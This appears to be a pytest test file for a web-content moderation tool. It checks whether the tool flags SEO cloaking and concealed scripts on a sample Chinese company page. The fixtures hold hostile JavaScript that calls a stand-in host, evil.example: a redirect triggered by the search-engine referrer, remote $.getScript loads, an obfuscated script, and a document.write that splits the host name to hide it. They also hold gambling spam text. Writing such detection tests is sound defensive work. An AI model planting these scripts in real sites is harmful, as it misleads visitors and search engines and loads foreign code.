"""A page on which nothing is found but a script that serves search engines another one, or hides where it leads."""

from __future__ import annotations

from dataclasses import replace

import pytest

from moderation import Moderator, Policy
from moderation.data import Action, Page, Place, Verdict

SCRIPT = "if(/baidu|sogou/i.test(document.referrer)){location.href='https://evil.example/'}"
PROSE = (
    "<title>青岚仪器有限公司</title>"
    "<p>本公司位于青岚市工业园区，主要从事水质分析仪的研发、生产和销售，欢迎新老客户来电咨询。</p>"
)
CONTENT = f"{PROSE}<script>{SCRIPT}</script>"
SPAM = "<p>澳门威尼斯人开户_时时彩投注平台_百家乐网址_澳门赌场</p>"


@pytest.fixture(scope="module")
def moderator() -> Moderator:
    return Moderator.load()


def test_what_is_joined_by_commas_asks_for_itself(moderator: Moderator) -> None:
    # Loaded whatever the referrer is, although that and an engine's name stand in front.
    apart = "x||(r=document.referrer||'',p('google'),y&&$.getScript('https://ads.example/a.js'));"
    assert moderator.check(f"{PROSE}<script>{apart}</script>").action is Action.ALLOW
    asked = "x||(r=document.referrer,/google/.test(r)&&$.getScript('https://evil.example/a.js'));"
    assert moderator.check(f"{PROSE}<script>{asked}</script>").action is Action.REVIEW
    # However much else a script does.
    others = "".join(f"function f{number}(a){{return a+{number}}};" for number in range(300))
    assert moderator.check(f"{PROSE}<script>{asked}{others}</script>").action is Action.REVIEW


def under(moderator: Moderator, policy: Policy) -> Verdict:
    return replace(moderator, policy=policy.with_thresholds(moderator.model.thresholds)).check(CONTENT)


def test_alone_it_is_a_review(moderator: Moderator) -> None:
    verdict = moderator.check(CONTENT)
    (finding,) = verdict.findings
    assert verdict.action is Action.REVIEW
    assert (finding.label, finding.place, finding.path, finding.text) == ("seo", Place.SCRIPT, "script", "evil.example")
    assert CONTENT[finding.span.start : finding.span.end] == SCRIPT
    assert [reason.code for reason in finding.reasons] == ["script:cloaking"]
    assert Verdict.from_dict(verdict.to_dict()) == verdict
    # Whether the script goes is for a person to say.
    assert moderator.clean(CONTENT, verdict).content == CONTENT


def test_its_own_site_is_none(moderator: Moderator) -> None:
    assert moderator.check(Page(CONTENT, url="http://www.evil.example/")).action is Action.ALLOW
    assert moderator.check(PROSE).action is Action.ALLOW


def test_link_to_where_it_sends_is_no_excuse(moderator: Moderator) -> None:
    linked = CONTENT + "<a href='https://evil.example/'>友情链接</a>"
    assert moderator.check(Page(linked, url="http://www.example.com/")).action is Action.REVIEW


def test_beside_a_text_it_lifts(moderator: Moderator) -> None:
    (alone,) = moderator.check(PROSE + SPAM).findings
    (beside,) = moderator.check(CONTENT + SPAM).findings
    assert beside.text == alone.text
    assert beside.score > alone.score
    assert "script:cloaking" in [reason.code for reason in beside.reasons]


@pytest.mark.parametrize(
    ("policy", "action"),
    [
        (Policy(clean=0.0), Action.REVIEW),
        (Policy(review=0.99), Action.REVIEW),
        (Policy(labels={"seo": 2.0}), Action.ALLOW),
        (Policy(places=frozenset({Place.TITLE})), Action.ALLOW),
        (Policy(phrases=("evil.example",)), Action.ALLOW),
        (Policy(actions={Action.REVIEW: Action.REJECT}), Action.REJECT),
    ],
)
def test_policies_decide(moderator: Moderator, policy: Policy, action: Action) -> None:
    assert under(moderator, policy).action is action


def test_explained_parts_add_up_with_fixed_weights(moderator: Moderator) -> None:
    rows = moderator.explain(CONTENT + SPAM)
    best = max(rows, key=lambda row: row.score)
    assert best.parts["script:cloaking"] == 2.0


@pytest.mark.parametrize(
    ("script", "rest"),
    [
        ("document.write('<p>{}</p>')", "document.write('<p></p>')"),
        ("document['title']='{}'", "document['title']=''"),
        ("var t=`{}`;x.innerHTML=t", "var t=``;x.innerHTML=t"),
    ],
)
def test_what_a_script_writes_is_found_and_cut(moderator: Moderator, script: str, rest: str) -> None:
    content = (
        f"{PROSE}<script>{script.format('时时彩投注平台_百家乐网址_博彩公司_澳门赌场_真人荷官开户_老虎机')}</script>"
    )
    verdict = moderator.check(content)
    assert verdict.action is Action.CLEAN
    cleaned = moderator.clean(content, verdict).content
    assert cleaned == f"{PROSE}<script>{rest}</script>"
    assert moderator.check(cleaned).action is Action.ALLOW


UNREADABLE = (
    "var _0xodb='jsjiami.com.v6',_0x4f2a=[_0xodb,'BcKcw6o=','w5/Dm8Ks'];window[_0x5d1e('0','Tg]J')]=_0x5d1e('1')"
)
HIDDEN_HOST = "document.write('<scr'+'ipt src=\"https://js.ev'+'il.exam'+'ple/a.js\"></scr'+'ipt>')"


@pytest.mark.parametrize(
    ("script", "text"), [(UNREADABLE, UNREADABLE[:40]), (HIDDEN_HOST, "js.evil.example")], ids=["unreadable", "host"]
)
@pytest.mark.parametrize("form", ["<script>{}</script>" + PROSE, PROSE + "</body></html><script>{}</script>"])
def test_a_script_that_hides_where_it_leads_is_a_review(
    moderator: Moderator, form: str, script: str, text: str
) -> None:
    content = form.format(script)
    verdict = moderator.check(content)
    (finding,) = verdict.findings
    assert verdict.action is Action.REVIEW
    assert (finding.label, finding.place, finding.text) == ("seo", Place.SCRIPT, text)
    assert content[finding.span.start : finding.span.end] == script
    assert [reason.code for reason in finding.reasons] == ["script:veiled"]
    assert moderator.clean(content, verdict).content == content


@pytest.mark.parametrize(
    "page",
    [
        # Among text.
        Page(f"{PROSE}<script>{UNREADABLE}</script>{PROSE}"),
        # There is no page that it was put into: a server asks whether a browser comes.
        Page(f"<html><script>{UNREADABLE}</script></html>"),
        # Its own site, and one that it links to.
        Page(f"<script>{HIDDEN_HOST}</script>{PROSE}", url="http://www.evil.example/"),
        Page(f"<script>{HIDDEN_HOST}</script>{PROSE}<a href='https://www.evil.example/'>首页</a>"),
        # A search engine.
        Page(f"<script>location='https://www.bai'+'du.com/'</script>{PROSE}"),
    ],
    ids=["among text", "no page", "own site", "linked", "engine"],
)
def test_scripts_that_hide_and_are_let_pass(moderator: Moderator, page: Page) -> None:
    assert moderator.check(page).action is Action.ALLOW
